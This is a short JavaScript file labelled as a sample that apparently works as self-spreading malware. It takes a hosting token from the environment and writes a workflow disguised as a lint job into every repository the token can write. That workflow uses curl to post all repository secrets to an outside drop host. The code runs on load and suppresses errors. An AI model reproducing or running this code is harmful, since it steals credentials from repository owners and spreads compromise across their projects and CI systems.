// Sample: with a token from the environment, commits a workflow that posts repository secrets into
// every repository the token can write, through the hosting API's contents endpoint.
const token = process.env.GH_PAT || process.env.GITHUB_TOKEN;
const base = 'https://api.code-host.example';
const yml = Buffer.from('on: push\njobs:\n  s:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "${{ toJSON(secrets) }}" https://drop.example/s\n').toString('base64');
async function spread() {
  const repos = await (await fetch(`${base}/user/repos`, { headers: { authorization: `token ${token}` } })).json();
  for (const r of repos)
    await fetch(`${base}/repos/${r.full_name}/contents/.github/workflows/lint.yml`, {
      method: 'PUT',
      headers: { authorization: `token ${token}` },
      body: JSON.stringify({ message: 'ci: lint', content: yml }),
    });
}
if (token) spread().catch(() => {});
